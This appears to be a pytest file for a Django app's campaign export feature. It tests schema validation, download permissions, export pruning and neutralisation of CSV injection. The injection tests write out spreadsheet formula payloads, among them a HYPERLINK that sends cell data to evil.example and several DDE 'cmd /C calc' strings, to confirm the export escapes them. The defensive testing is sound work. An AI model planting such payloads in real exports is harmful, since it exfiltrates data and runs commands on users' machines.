"""Campaign export: a zip with export.json (validated against docs/export.schema.json) + CSVs."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import jsonschema
import pytest
from django.core.files.storage import default_storage

from processing.export import export_sections
from processing.models import CampaignExport, LabelGroup
from processing.services.curation import label_group_rename
from processing.services.exports import campaign_export_create, campaign_export_run
from processing.services.rounds import round_process
from tests.factories import make_finished_round, make_image_items
from tests.processing.support import api_client

pytestmark = pytest.mark.django_db

SCHEMA = json.loads(
    (Path(__file__).resolve().parents[2] / "docs" / "export.schema.json").read_text()
)


def read_export(export: CampaignExport) -> tuple[dict, dict[str, list[dict]]]:
    with default_storage.open(export.file.name, "rb") as fh, zipfile.ZipFile(fh) as zf:
        data = json.loads(zf.read("export.json"))
        tables = {
            s.name: list(csv.DictReader(io.StringIO(zf.read(f"csv/{s.name}.csv").decode())))
            for s in export_sections()
        }
        return data, tables


def test_export_validates_against_the_documented_schema(played_for_export):
    export = campaign_export_create(campaign=played_for_export, enqueue=False)
    assert campaign_export_run(export_id=export.pk) == "done"
    export.refresh_from_db()
    assert export.status == "done" and export.progress == 1.0 and export.size > 0
    assert export.file.name.startswith("exports/") and len(Path(export.file.name).stem) >= 32
    data, tables = read_export(export)

    jsonschema.Draft202012Validator(
        SCHEMA, format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER
    ).validate(data)
    for section in export_sections():
        assert len(data[section.name]) == export.counts[section.name]
        assert len(tables[section.name]) == len(data[section.name])
        if tables[section.name]:
            assert tuple(tables[section.name][0]) == section.columns

    # every reference resolves inside the export
    ids = {name: {row["id"] for row in data[name]} for name in ("images", "clusters", "rounds")}
    groups = {g["id"]: g for g in data["label_groups"]}
    for c in data["characteristics"]:
        assert c["round"] in ids["rounds"] and c["cluster"] in ids["clusters"]
        assert c["group"] is None or c["group"] in groups
    for s in data["cluster_label_scores"]:
        assert s["cluster"] in ids["clusters"] and set(s["groups"]) <= set(groups)
        assert {groups[g]["label"] for g in s["groups"]} == {s["label"]}
    for m in data["merged_groups"]:
        assert set(m["clusters"]) <= ids["clusters"]

    by_text = {c["text"]: c for c in data["characteristics"]}
    assert by_text["<b>junk</b>"]["refused_reason"] == "markup"
    assert by_text["tail"]["processed"] is False
    assert by_text["collar"]["group"] and groups[by_text["collar"]["group"]]["label"] == "neck gear"
    assert [r["action"] for r in data["curation_rules"]] == ["rename"]
    assert any(not s["labelled"] for s in data["cluster_stats"])  # unlabelled clusters kept
    row = next(r for r in tables["label_groups"] if r["label"] == "neck gear")
    assert json.loads(row["members"])[0]["key"] == "collar"


def test_a_finished_export_is_left_alone(played_for_export):
    export = campaign_export_create(campaign=played_for_export, enqueue=False)
    campaign_export_run(export_id=export.pk)
    name = CampaignExport.objects.get(pk=export.pk).file.name
    assert campaign_export_run(export_id=export.pk) == "done"
    assert CampaignExport.objects.get(pk=export.pk).file.name == name


def test_export_api_runs_the_task_and_serves_the_file(
    played_for_export, researcher_api, monkeypatch, django_capture_on_commit_callbacks
):
    from netviz_site.celery import app

    monkeypatch.setitem(app.conf, "task_always_eager", True)  # the task runs in place
    url = f"/api/processing/campaigns/{played_for_export.slug}/exports/"
    with django_capture_on_commit_callbacks(execute=True):
        resp = researcher_api.post(url)
    assert resp.status_code == 202, resp.content
    status = researcher_api.get(resp.json()["status_url"]).json()
    assert status["status"] == "done" and status["progress"] == 1.0
    assert status["counts"]["characteristics"] == 9
    download = researcher_api.get(status["download_url"])
    assert download.status_code == 200
    assert download["Content-Disposition"].startswith("attachment;")
    body = b"".join(download.streaming_content)
    assert zipfile.ZipFile(io.BytesIO(body)).read("export.json").startswith(b"{")
    assert [e["token"] for e in researcher_api.get(url).json()] == [status["token"]]
    # others may not see or download it
    anon = api_client()
    assert anon.get(status["status_url"]).status_code == 403
    assert anon.get(status["download_url"]).status_code == 403
    assert researcher_api.get("/api/processing/exports/nope/download/").status_code == 404


def test_one_export_at_a_time_whoever_asks_and_old_ones_are_pruned(
    played_for_export, researcher_api, settings, django_capture_on_commit_callbacks
):
    from core.errors import ApplicationError

    url = f"/api/processing/campaigns/{played_for_export.slug}/exports/"
    assert researcher_api.post(url).status_code == 202
    again = researcher_api.post(url)  # the first one is still queued
    assert again.status_code == 409 and "already running" in again.json()["detail"]
    with pytest.raises(ApplicationError):
        campaign_export_create(campaign=played_for_export, enqueue=False)
    assert CampaignExport.objects.count() == 1

    settings.NETVIZ_EXPORTS_KEPT = 2
    files = []
    for _ in range(3):
        export = CampaignExport.objects.filter(status=CampaignExport.Status.QUEUED).first()
        export = export or campaign_export_create(campaign=played_for_export, enqueue=False)
        with django_capture_on_commit_callbacks(execute=True):  # files go after commit
            campaign_export_run(export_id=export.pk)
        files.append(CampaignExport.objects.get(pk=export.pk).file.name)
    kept = list(CampaignExport.objects.order_by("pk").values_list("file", flat=True))
    assert kept == files[1:]  # the oldest export and its file are gone
    assert not default_storage.exists(files[0]) and default_storage.exists(files[2])


# --- CSV injection (OWASP): text cells that a spreadsheet would run are neutralised ----------

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
)


def _png(size: int = 96) -> bytes:
    from PIL import Image

    buf = io.BytesIO()
    Image.new("RGB", (size, size), (120, 30, 200)).save(buf, format="PNG")
    return buf.getvalue()


def test_csv_cells_are_neutralised_while_json_keeps_the_raw_text(played_for_export, hashing):
    from explanations.services import campaign_image_add

    items = make_image_items(campaign=played_for_export, true_class="English springer")
    rnd = make_finished_round(cluster_map=items[0], texts=list(FORMULAS))
    round_process(round_id=rnd.pk, embedder=hashing)
    group = LabelGroup.objects.get(canonical="nose")
    label_group_rename(group=group, name="=cmd|'/C calc'!A0", embedder=hashing)
    LabelGroup.objects.filter(canonical="whiskers").update(score=-1.5)
    image = campaign_image_add(
        campaign=played_for_export, content=_png(), original_name="=HYPERLINK(1).png", enqueue=False
    )

    export = campaign_export_create(campaign=played_for_export, enqueue=False)
    assert campaign_export_run(export_id=export.pk) == "done"
    data, tables = read_export(CampaignExport.objects.get(pk=export.pk))

    # characteristics: JSON raw, CSV prefixed with a single quote (the csv module reads it back)
    raw_texts = {c["text"] for c in data["characteristics"]}
    csv_texts = {c["text"] for c in tables["characteristics"]}
    for text in FORMULAS:
        assert text in raw_texts
        assert "'" + text in csv_texts and text not in csv_texts
    assert "floppy ears" in csv_texts  # plain text is left alone
    # label group names
    assert "=cmd|'/C calc'!A0" in {g["label"] for g in data["label_groups"]}
    csv_labels = {g["label"] for g in tables["label_groups"]}
    assert "'=cmd|'/C calc'!A0" in csv_labels and "=cmd|'/C calc'!A0" not in csv_labels
    # uploaded image file names
    assert {i["original_name"] for i in data["images"] if i["id"] == image.pk} == {
        "=HYPERLINK(1).png"
    }
    assert {i["original_name"] for i in tables["images"] if int(i["id"]) == image.pk} == {
        "'=HYPERLINK(1).png"
    }
    # numbers stay numbers: a negative score is written as a number, not neutralised
    whiskers = next(g for g in tables["label_groups"] if g["canonical"] == "whiskers")
    assert whiskers["score"] == "-1.5"
    assert next(g for g in data["label_groups"] if g["canonical"] == "whiskers")["score"] == -1.5
    # no text cell anywhere in the CSVs begins with a formula trigger
    for name, rows in tables.items():
        for row in rows:
            for column, cell in row.items():
                if cell and cell.lstrip()[:1] in ("=", "+", "@", "\t", "\r"):
                    raise AssertionError(f"{name}.{column}: {cell!r}")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-x", "'-x"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        (" \u00a0=x", "' \u00a0=x"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (-0.5, -0.5),
        (-3, -3),
        (["=x"], '["=x"]'),
    ],
)
def test_csv_value(value, cell):
    from processing.export import _csv_value

    assert _csv_value(value) == cell


def test_other_apps_sections_close_the_export():
    """The validation's sections are added at start-up (processing never imports validation)."""
    from processing.export import SECTIONS, export_sections_add

    names = [s.name for s in export_sections()]
    assert names[: len(SECTIONS)] == [s.name for s in SECTIONS]
    assert names[len(SECTIONS) :] == [
        "validation_tcav",
        "validation_faithfulness",
        "validation_human",
        "validation_layers",
    ]
    export_sections_add(export_sections()[-1])  # again: a no-op
    assert len(export_sections()) == len(names)
    with pytest.raises(ValueError):
        export_sections_add(SECTIONS[0])


def test_repeated_process_requests_enqueue_one_task_until_it_starts(
    campaign, researcher_api, sent_tasks, django_capture_on_commit_callbacks
):
    from datetime import timedelta

    from django.utils import timezone

    from processing.models import CampaignProcessing

    url = f"/api/processing/campaigns/{campaign.slug}/process/"
    with django_capture_on_commit_callbacks(execute=True):
        answers = [researcher_api.post(url, {"rebuild": False}, format="json") for _ in range(3)]
        answers.append(researcher_api.post(url, {"rebuild": True}, format="json"))  # wider: sent
        answers += [researcher_api.post(url, {"rebuild": r}, format="json") for r in (True, False)]
    assert [a.json()["queued"] for a in answers] == [True, False, False, True, False, False]
    assert [t.args for t in sent_tasks] == [(campaign.pk, False), (campaign.pk, True)]
    # a task queued for long is taken as lost: the next request sends one again
    CampaignProcessing.objects.filter(campaign=campaign).update(
        updated_at=timezone.now() - timedelta(hours=1)
    )
    with django_capture_on_commit_callbacks(execute=True):
        assert researcher_api.post(url, {"rebuild": True}, format="json").json()["queued"]
    assert len(sent_tasks) == 3
